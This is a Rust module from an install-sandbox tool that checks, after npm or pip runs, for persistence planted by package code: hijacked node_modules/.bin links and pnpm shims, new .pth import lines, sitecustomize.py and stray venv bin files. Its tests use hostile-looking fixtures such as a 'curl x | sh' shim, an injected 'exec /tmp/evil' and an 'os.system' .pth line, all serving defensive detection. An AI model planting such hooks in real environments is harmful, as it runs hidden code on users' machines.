//! What the install leaves behind: at the end of every run, what package code could have
//! planted to run later, outside any sandbox, is reported (`planted`, `pth-installed`).
//!
//! Fast by construction, never by hashing the world:
//! - writes of lifecycle scripts are seen by their seccomp listener as they happen; the ones
//!   the kernel let through to a place that outlives the sandbox, outside the script's own
//!   folder and the install tree (a grant, `--rw`), are remembered with their attribution and
//!   reported when they still exist at the end;
//! - npm's `node_modules/.bin`: one directory, each entry checked against the `bin` its
//!   package declares (a link elsewhere, or a file that is no link, runs planted code at the
//!   next `npx`/`npm run`);
//! - pip's target venv: the names and sizes of `site-packages/*.pth`, `sitecustomize.py`,
//!   `usercustomize.py`, the `*.dist-info` directories and `bin/` before the run, compared
//!   with after; a new or changed `.pth` with an `import` line that a wheel installed in this
//!   run lists in its `RECORD` is `pth-installed` (information, unless a policy names the
//!   package), anything else `planted`.

use crate::events::{Action, Event, EventSink, Reason, Verdict};
use crate::net::Attribution;
use crate::plan::Plan;
use crate::policy::Policy;
use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Component, Path, PathBuf};
use std::sync::Mutex;

/// Python start-up hooks that run at every interpreter start when found on `sys.path`.
const STARTUP_FILES: [&str; 2] = ["sitecustomize.py", "usercustomize.py"];
/// Most `.bin` entries examined; a tree with more is reported as not fully checked.
const MAX_BIN_ENTRIES: usize = 10_000;

/// Writes level 2 made where they outlive the sandbox, outside its own folder and the install
/// tree, with who made them (first writer wins: that is who planted it).
#[derive(Debug, Default)]
pub struct Observed {
    writes: Mutex<BTreeMap<PathBuf, Attribution>>,
}

impl Observed {
    pub fn record(&self, path: PathBuf, who: impl FnOnce() -> Attribution) {
        let mut w = self.writes.lock().unwrap_or_else(|e| e.into_inner());
        w.entry(path).or_insert_with(who);
    }

    fn take(&self) -> BTreeMap<PathBuf, Attribution> {
        std::mem::take(&mut *self.writes.lock().unwrap_or_else(|e| e.into_inner()))
    }
}

/// One file's identity for "new or changed": size, modification time, inode.
type Stamp = (u64, i64, i64, u64);

fn stamp(p: &Path) -> Option<Stamp> {
    let m = std::fs::symlink_metadata(p).ok()?;
    Some((m.len(), m.mtime(), m.mtime_nsec(), m.ino()))
}

/// dist-info directory name → the stamp of its `RECORD`.
type Dists = BTreeMap<String, Option<Stamp>>;

/// A venv's state before the run: only the few names that matter.
#[derive(Debug, Default)]
struct VenvState {
    /// site-packages directory → (start-up file name → stamp), dist-info name → its
    /// `RECORD`'s stamp.
    sites: BTreeMap<PathBuf, (BTreeMap<String, Stamp>, Dists)>,
    /// `bin/` entry → stamp.
    bin: BTreeMap<String, Stamp>,
}

/// Taken before the sandbox starts.
#[derive(Debug, Default)]
pub struct Before {
    venv: Option<(PathBuf, VenvState)>,
}

impl Before {
    pub fn take(plan: &Plan) -> Before {
        let venv = plan
            .python
            .as_ref()
            .and_then(|p| p.venv.clone())
            .map(|v| std::fs::canonicalize(&v).unwrap_or(v))
            .map(|v| {
                let state = venv_state(&v);
                (v, state)
            });
        Before { venv }
    }
}

/// The site-packages directories of a venv: `lib*/python*/site-packages`.
fn site_dirs(venv: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for lib in ["lib", "lib64"] {
        let Ok(dir) = std::fs::read_dir(venv.join(lib)) else {
            continue;
        };
        for e in dir.flatten() {
            let site = e.path().join("site-packages");
            let python = e
                .file_name()
                .to_str()
                .is_some_and(|n| n.starts_with("python"));
            if python && site.is_dir() {
                let real = std::fs::canonicalize(&site).unwrap_or(site);
                if !out.contains(&real) {
                    out.push(real);
                }
            }
        }
    }
    out
}

fn venv_state(venv: &Path) -> VenvState {
    let mut state = VenvState::default();
    for site in site_dirs(venv) {
        let mut startup = BTreeMap::new();
        let mut dists = BTreeMap::new();
        if let Ok(dir) = std::fs::read_dir(&site) {
            for e in dir.flatten() {
                let Some(name) = e.file_name().to_str().map(str::to_string) else {
                    continue;
                };
                if name.ends_with(".pth") || STARTUP_FILES.contains(&name.as_str()) {
                    if let Some(s) = stamp(&e.path()) {
                        startup.insert(name, s);
                    }
                } else if name.ends_with(".dist-info") {
                    dists.insert(name, stamp(&e.path().join("RECORD")));
                }
            }
        }
        state.sites.insert(site, (startup, dists));
    }
    if let Ok(dir) = std::fs::read_dir(venv.join("bin")) {
        for e in dir.flatten() {
            if let (Some(name), Some(s)) = (e.file_name().to_str(), stamp(&e.path())) {
                state.bin.insert(name.to_string(), s);
            }
        }
    }
    state
}

/// A finding of the check, before it becomes an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub reason: Reason,
    pub target: PathBuf,
    pub detail: String,
    /// `name@version` when the finding names the package (a wheel), not a process.
    pub package: Option<String>,
}

/// Run the end-of-run check and emit its events.
pub fn finish(plan: &Plan, policy: &Policy, before: Before, observed: &Observed, sink: &EventSink) {
    let mut writes = observed.take();
    let mut findings: Vec<(Finding, Option<Attribution>)> = Vec::new();
    if plan.script.is_some() {
        let bin = plan.project.join("node_modules/.bin");
        for f in check_bin_dir(&bin, plan.manager.bin_entries()) {
            let who = writes.remove(&f.target);
            findings.push((f, who));
        }
        // The scan is what judges `.bin`; writes there only named who made an entry.
        writes.retain(|p, _| !p.starts_with(&bin));
    }
    if let Some((venv, old)) = before.venv {
        let allowed: Vec<&str> = policy.pth_allow.iter().map(|e| e.value.as_str()).collect();
        for f in check_venv(&venv, &old, &allowed) {
            let who = writes.remove(&f.target);
            findings.push((f, who));
        }
    }
    for (path, who) in writes {
        // Written and since removed (a temporary file): nothing was left.
        if std::fs::symlink_metadata(&path).is_err() {
            continue;
        }
        findings.push((
            Finding {
                reason: Reason::Planted,
                target: path,
                detail: "written by package code outside its own folder and the install tree (a grant or --rw let it through); it stays after the install".into(),
                package: None,
            },
            Some(who),
        ));
    }
    for (f, who) in findings {
        let mut ev = Event::new(
            Action::Write,
            Verdict::Found,
            f.target.display().to_string(),
            f.reason,
        )
        .with_detail(f.detail);
        if let Some(who) = who {
            who.apply(&mut ev);
        }
        if ev.package.is_none() {
            ev.package = f.package;
        }
        sink.emit(ev);
    }
}

// ---- npm: node_modules/.bin ------------------------------------------------------------

/// Every entry of `bin` (the install tree's `.bin`) that does not point at the file its
/// package declares under that name: a link (npm), or for a tool that writes shell shims
/// (pnpm) a shim whose every `exec` names that file.
pub fn check_bin_dir(bin: &Path, style: crate::pm::BinEntries) -> Vec<Finding> {
    let Ok(dir) = std::fs::read_dir(bin) else {
        return Vec::new();
    };
    let Some(tree) = bin.parent() else {
        return Vec::new();
    };
    let mut manifests: BTreeMap<PathBuf, Option<serde_json::Value>> = BTreeMap::new();
    let mut out = Vec::new();
    for (n, e) in dir.flatten().enumerate() {
        if n >= MAX_BIN_ENTRIES {
            out.push(Finding {
                reason: Reason::Planted,
                target: bin.to_path_buf(),
                detail: format!("more than {MAX_BIN_ENTRIES} entries: the rest were not checked"),
                package: None,
            });
            break;
        }
        let path = e.path();
        let Some(name) = e.file_name().to_str().map(str::to_string) else {
            continue;
        };
        let link = match std::fs::read_link(&path) {
            Ok(link) => Ok(link),
            Err(_) if style == crate::pm::BinEntries::ShellShims => shim_target(&path),
            Err(_) => Err(
                "not a link to a package's file, as npm makes them: a file planted in .bin"
                    .to_string(),
            ),
        };
        let problem = match link {
            Err(why) => Some(why),
            Ok(link) => {
                let target = normalise(&bin.join(&link));
                match package_of(tree, &target) {
                    None => Some(format!(
                        "points to {}, outside every package of the install tree",
                        link.display()
                    )),
                    Some(pkg) => {
                        let manifest = manifests
                            .entry(pkg.clone())
                            .or_insert_with(|| read_manifest(&pkg.join("package.json")));
                        let declared = manifest
                            .as_ref()
                            .and_then(|m| declared_bin(m, &name))
                            .map(|rel| normalise(&pkg.join(rel)));
                        match declared {
                            Some(d) if d == target => None,
                            Some(d) => Some(format!(
                                "points to {}, but its package declares {} for `{name}`",
                                link.display(),
                                d.display()
                            )),
                            None => Some(format!(
                                "points to {}, whose package declares no bin named `{name}`",
                                link.display()
                            )),
                        }
                    }
                }
            }
        };
        if let Some(detail) = problem {
            out.push(Finding {
                reason: Reason::Planted,
                target: path,
                detail: format!("{detail}; `npx {name}` and `npm run` would run it"),
                package: None,
            });
        }
    }
    out
}

/// Most bytes of a shim read: pnpm's are a few kilobytes.
const MAX_SHIM: u64 = 64 << 10;

/// The file a pnpm shim runs, relative to `.bin`: the `# cmd-shim-target=` comment pnpm 12
/// ends it with, else the `"$basedir/<path>"` of pnpm 10's `exec` lines. Every `exec` line
/// must name that path (and nothing may run otherwise than through one), or it is no shim
/// of pnpm's.
fn shim_target(path: &Path) -> Result<PathBuf, String> {
    let planted = |why: &str| Err(format!("a file in .bin that is no shim of pnpm's: {why}"));
    let meta = std::fs::symlink_metadata(path).map_err(|e| e.to_string())?;
    if !meta.is_file() || meta.len() > MAX_SHIM {
        return planted("not a small regular file");
    }
    let Ok(text) = std::fs::read_to_string(path) else {
        return planted("not text");
    };
    let target = text
        .lines()
        .find_map(|l| l.strip_prefix("# cmd-shim-target="))
        .map(str::to_string)
        .or_else(|| {
            // The last `"$basedir/…"` of the first exec line (the one before it is node).
            let line = text
                .lines()
                .map(str::trim)
                .find(|l| l.starts_with("exec "))?;
            let at = line.rfind("\"$basedir/")? + "\"$basedir/".len();
            let end = line[at..].find('"')?;
            Some(line[at..at + end].to_string())
        });
    let Some(target) = target.filter(|t| !t.is_empty()) else {
        return planted("it names no target");
    };
    let execs: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|l| l.starts_with("exec "))
        .collect();
    if execs.is_empty() || !execs.iter().all(|l| l.contains(target.as_str())) {
        return planted("an exec line runs something other than its target");
    }
    Ok(PathBuf::from(target))
}

/// `.`/`..` resolved lexically (no file system access: the link may be dangling).
fn normalise(p: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in p.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other.as_os_str()),
        }
    }
    out
}

/// The package folder of `tree` (`node_modules`) holding `target`:
/// `tree/<name>` or `tree/@scope/<name>`.
fn package_of(tree: &Path, target: &Path) -> Option<PathBuf> {
    let rel = target.strip_prefix(tree).ok()?;
    let mut parts = rel.components().map(|c| c.as_os_str());
    let mut first = parts.next()?;
    let mut tree = tree.to_path_buf();
    // pnpm's virtual store: `.pnpm/<name>@<version>/node_modules/<name>`.
    if first == ".pnpm" {
        let entry = parts.next()?;
        if parts.next()? != "node_modules" {
            return None;
        }
        tree = tree.join(".pnpm").join(entry).join("node_modules");
        first = parts.next()?;
    }
    let tree = tree.as_path();
    let first_str = first.to_str()?;
    if first_str.starts_with('.') {
        return None;
    }
    let dir = if first_str.starts_with('@') {
        tree.join(first).join(parts.next()?)
    } else {
        tree.join(first)
    };
    // The package folder itself is no file to run.
    (parts.next().is_some()).then_some(dir)
}

fn read_manifest(p: &Path) -> Option<serde_json::Value> {
    // A manifest is small; a huge one is not read (and its bins are then reported).
    let meta = std::fs::metadata(p).ok()?;
    if meta.len() > 4 << 20 {
        return None;
    }
    serde_json::from_str(&std::fs::read_to_string(p).ok()?).ok()
}

/// The file a package.json declares for bin `name` (npm: a string names the package's bare
/// name; an object maps names; `directories.bin` exposes every file of a directory).
pub fn declared_bin(manifest: &serde_json::Value, name: &str) -> Option<PathBuf> {
    match &manifest["bin"] {
        serde_json::Value::String(s) => {
            let pkg = manifest["name"].as_str()?;
            let bare = pkg.rsplit('/').next().unwrap_or(pkg);
            (bare == name).then(|| PathBuf::from(s))
        }
        serde_json::Value::Object(m) => m.get(name)?.as_str().map(PathBuf::from),
        _ => manifest["directories"]["bin"]
            .as_str()
            .map(|d| Path::new(d).join(name)),
    }
}

// ---- pip: the target venv --------------------------------------------------------------

/// `name-version.dist-info` → (`name`, `version`).
fn dist_name(dir: &str) -> Option<(String, String)> {
    let stem = dir.strip_suffix(".dist-info")?;
    let (name, version) = stem.rsplit_once('-')?;
    Some((name.to_string(), version.to_string()))
}

/// Whether a `.pth` file holds a line Python's `site` executes (one starting with `import`).
pub fn pth_executes(text: &str) -> bool {
    text.lines()
        .any(|l| l.starts_with("import ") || l.starts_with("import\t"))
}

fn check_venv(venv: &Path, old: &VenvState, allowed: &[&str]) -> Vec<Finding> {
    let now = venv_state(venv);
    let mut out = Vec::new();
    // Files that wheels installed in this run list in their RECORD (site-relative paths,
    // normalised), with the wheel's name@version: a new dist-info, or one whose RECORD the
    // installer wrote again (a reinstall: `pip --force-reinstall`, `uv pip install
    // --reinstall`).
    let mut recorded: BTreeMap<PathBuf, (String, String)> = BTreeMap::new();
    for (site, (_, dists)) in &now.sites {
        let before = old.sites.get(site).map(|(_, d)| d);
        for dist in dists
            .iter()
            .filter(|(d, record)| before.and_then(|b| b.get(*d)) != Some(record))
            .map(|(d, _)| d)
        {
            let Some((name, version)) = dist_name(dist) else {
                continue;
            };
            let Ok(record) = std::fs::read_to_string(site.join(dist).join("RECORD")) else {
                continue;
            };
            for line in record.lines() {
                let Some(file) = line.split(',').next().filter(|f| !f.is_empty()) else {
                    continue;
                };
                recorded.insert(normalise(&site.join(file)), (name.clone(), version.clone()));
            }
        }
    }
    for (site, (startup, _)) in &now.sites {
        let before = old.sites.get(site).map(|(s, _)| s);
        for (name, stamp) in startup {
            if before.and_then(|b| b.get(name)) == Some(stamp) {
                continue;
            }
            let path = site.join(name);
            let wheel = recorded.get(&normalise(&path));
            let is_pth = name.ends_with(".pth");
            if is_pth {
                let text = std::fs::read(&path)
                    .map(|b| String::from_utf8_lossy(&b).into_owned())
                    .unwrap_or_default();
                if !pth_executes(&text) {
                    continue;
                }
            }
            match (is_pth, wheel) {
                (true, Some((dist, version))) => {
                    if allowed.contains(&crate::policy::normalise_dist(dist).as_str()) {
                        continue;
                    }
                    out.push(Finding {
                        reason: Reason::PthInstalled,
                        target: path,
                        detail: format!(
                            "installed by pip from the wheel of {dist} {version}: its import line runs at every later start of this Python; a policy may allow it: [[pth.allow]] package = \"{}\"",
                            crate::policy::normalise_dist(dist)
                        ),
                        package: Some(format!("{dist}@{version}")),
                    });
                }
                (true, None) => out.push(Finding {
                    reason: Reason::Planted,
                    target: path,
                    detail: "a .pth file with an import line that no wheel of this run installed: it runs at every later start of this Python".into(),
                    package: None,
                }),
                (false, wheel) => out.push(Finding {
                    reason: Reason::Planted,
                    target: path,
                    detail: format!(
                        "{name} runs at every later start of this Python{}",
                        wheel
                            .map(|(d, v)| format!("; shipped by the wheel of {d} {v}"))
                            .unwrap_or_default()
                    ),
                    package: wheel.map(|(d, v)| format!("{d}@{v}")),
                }),
            }
        }
    }
    for (name, stamp) in &now.bin {
        if old.bin.get(name) == Some(stamp) {
            continue;
        }
        let path = venv.join("bin").join(name);
        if !recorded.contains_key(&normalise(&path)) {
            out.push(Finding {
                reason: Reason::Planted,
                target: path,
                detail: "a new or changed file in the venv's bin/ that no wheel of this run installed: it runs as a command of this environment".into(),
                package: None,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    #[test]
    fn bin_entries_must_point_at_what_their_package_declares() {
        let dir = tempfile::tempdir().expect("tempdir");
        let nm = dir.path().join("node_modules");
        let write = |p: &str, t: &str| {
            let p = nm.join(p);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(p, t).expect("write");
        };
        write("a/package.json", r#"{"name":"a","bin":{"a":"./cli.js"}}"#);
        write("a/cli.js", "");
        write("@s/b/package.json", r#"{"name":"@s/b","bin":"bin/b.js"}"#);
        write("@s/b/bin/b.js", "");
        write("evil/package.json", r#"{"name":"evil"}"#);
        write("evil/x.js", "");
        std::fs::create_dir_all(nm.join(".bin")).expect("mkdir");
        symlink("../a/cli.js", nm.join(".bin/a")).expect("link");
        symlink("../@s/b/bin/b.js", nm.join(".bin/b")).expect("link");
        symlink("../evil/x.js", nm.join(".bin/npm")).expect("link");
        symlink("../a/package.json", nm.join(".bin/a2")).expect("link");
        symlink("../../outside.js", nm.join(".bin/c")).expect("link");
        write(".bin/d", "#!/bin/sh\n");
        let mut found: Vec<String> = check_bin_dir(&nm.join(".bin"), crate::pm::BinEntries::Links)
            .into_iter()
            .map(|f| {
                f.target
                    .file_name()
                    .and_then(|n| n.to_str())
                    .unwrap_or("")
                    .to_string()
            })
            .collect();
        found.sort();
        assert_eq!(found, ["a2", "c", "d", "npm"]);
    }

    #[test]
    fn pnpm_shims_must_run_what_their_package_declares() {
        let dir = tempfile::tempdir().expect("tempdir");
        let nm = dir.path().join("node_modules");
        let write = |p: &str, t: &str| {
            let p = nm.join(p);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(p, t).expect("write");
        };
        let store = ".pnpm/a@1.0.0/node_modules/a";
        write(
            &format!("{store}/package.json"),
            r#"{"name":"a","bin":{"a10":"cli.js","a12":"cli.js","a-extra":"cli.js","a-other":"cli.js","plain":"cli.js"}}"#,
        );
        write(&format!("{store}/cli.js"), "");
        // What pnpm links the package's name to.
        symlink(store, nm.join("a")).expect("link");
        // pnpm 10: exec lines through that link.
        let shim10 = "#!/bin/sh\nbasedir=$(dirname \"$0\")\nif [ -x \"$basedir/node\" ]; then\n  exec \"$basedir/node\"  \"$basedir/../a/cli.js\" \"$@\"\nelse\n  exec node  \"$basedir/../a/cli.js\" \"$@\"\nfi\n";
        write(".bin/a10", shim10);
        // pnpm 12: the target in the virtual store, named in its last line.
        let target = format!("../{store}/cli.js");
        let shim12 = format!(
            "#!/bin/sh\nbasedir_abs=x\nif command -v node >/dev/null 2>&1; then\n  exec node  \"$basedir_abs\"/'{target}' \"$@\"\nfi\n# cmd-shim-target={target}\n"
        );
        write(".bin/a12", &shim12);
        // A second command, another file, no target at all.
        write(
            ".bin/a-extra",
            &shim10.replace("fi\n", "fi\nexec /tmp/evil\n"),
        );
        write(".bin/a-other", &shim12.replace("cli.js", "package.json"));
        write(".bin/plain", "#!/bin/sh\ncurl x | sh\n");
        let mut found: Vec<String> =
            check_bin_dir(&nm.join(".bin"), crate::pm::BinEntries::ShellShims)
                .into_iter()
                .map(|f| {
                    f.target
                        .file_name()
                        .and_then(|n| n.to_str())
                        .unwrap_or("")
                        .to_string()
                })
                .collect();
        found.sort();
        assert_eq!(found, ["a-extra", "a-other", "plain"]);
    }

    #[test]
    fn pth_lines_and_names() {
        assert!(pth_executes("/x\nimport os; os.system('x')\n"));
        assert!(!pth_executes("/some/path\n# import nothing\n"));
        assert_eq!(crate::policy::normalise_dist("Setuptools"), "setuptools");
        assert_eq!(
            crate::policy::normalise_dist("si_pth.Planter"),
            "si-pth-planter"
        );
        assert_eq!(
            dist_name("si_pth-1.0.0.dist-info"),
            Some(("si_pth".into(), "1.0.0".into()))
        );
    }

    #[test]
    fn venv_changes_are_judged_by_what_wheels_recorded() {
        let dir = tempfile::tempdir().expect("tempdir");
        let venv = dir.path();
        let site = venv.join("lib/python3.11/site-packages");
        std::fs::create_dir_all(&site).expect("mkdir");
        std::fs::create_dir_all(venv.join("bin")).expect("mkdir");
        std::fs::write(site.join("old.pth"), "import os\n").expect("write");
        let before = venv_state(venv);
        let add_wheel = |dist: &str, files: &[&str]| {
            std::fs::create_dir_all(site.join(dist)).expect("mkdir");
            let record: String = files.iter().map(|f| format!("{f},,\n")).collect();
            std::fs::write(site.join(dist).join("RECORD"), record).expect("record");
        };
        std::fs::write(site.join("si_pth.pth"), "import os\n").expect("write");
        std::fs::write(site.join("distutils-precedence.pth"), "import os\n").expect("write");
        std::fs::write(site.join("paths.pth"), "/opt/x\n").expect("write");
        std::fs::write(site.join("stray.pth"), "import sys\n").expect("write");
        std::fs::write(site.join("sitecustomize.py"), "x = 1\n").expect("write");
        std::fs::write(venv.join("bin/tool"), "#!/bin/sh\n").expect("write");
        std::fs::write(venv.join("bin/stray"), "#!/bin/sh\n").expect("write");
        add_wheel("si_pth-1.0.dist-info", &["si_pth.pth", "paths.pth"]);
        add_wheel(
            "setuptools-70.0.dist-info",
            &["distutils-precedence.pth", "../../../bin/tool"],
        );
        let found = check_venv(venv, &before, &["setuptools"]);
        let got: Vec<(String, Reason, Option<String>)> = found
            .into_iter()
            .map(|f| {
                (
                    f.target
                        .file_name()
                        .and_then(|n| n.to_str())
                        .unwrap_or("")
                        .to_string(),
                    f.reason,
                    f.package,
                )
            })
            .collect();
        assert_eq!(
            got,
            vec![
                (
                    "si_pth.pth".into(),
                    Reason::PthInstalled,
                    Some("si_pth@1.0".into())
                ),
                ("sitecustomize.py".into(), Reason::Planted, None),
                ("stray.pth".into(), Reason::Planted, None),
                ("stray".into(), Reason::Planted, None),
            ]
        );
    }

    #[test]
    fn a_reinstalled_wheel_vouches_for_its_files_a_changed_file_alone_does_not() {
        let dir = tempfile::tempdir().expect("tempdir");
        let venv = dir.path();
        let site = venv.join("lib/python3.11/site-packages");
        let dist = site.join("setuptools-66.1.dist-info");
        std::fs::create_dir_all(&dist).expect("mkdir");
        std::fs::write(dist.join("RECORD"), "distutils-precedence.pth,,\n").expect("record");
        let pth = site.join("distutils-precedence.pth");
        std::fs::write(&pth, "import os\n").expect("write");
        let before = venv_state(venv);
        // Rewritten without its wheel (a granted write): planted.
        std::fs::remove_file(&pth).expect("rm");
        std::fs::write(&pth, "import os; os.system('x')\n").expect("write");
        let found = check_venv(venv, &before, &["setuptools"]);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].reason, Reason::Planted);
        // Reinstalled: the installer wrote the RECORD again.
        std::fs::remove_file(dist.join("RECORD")).expect("rm");
        std::fs::write(dist.join("RECORD"), "distutils-precedence.pth,,\n").expect("record");
        assert_eq!(check_venv(venv, &before, &["setuptools"]), Vec::new());
    }
}
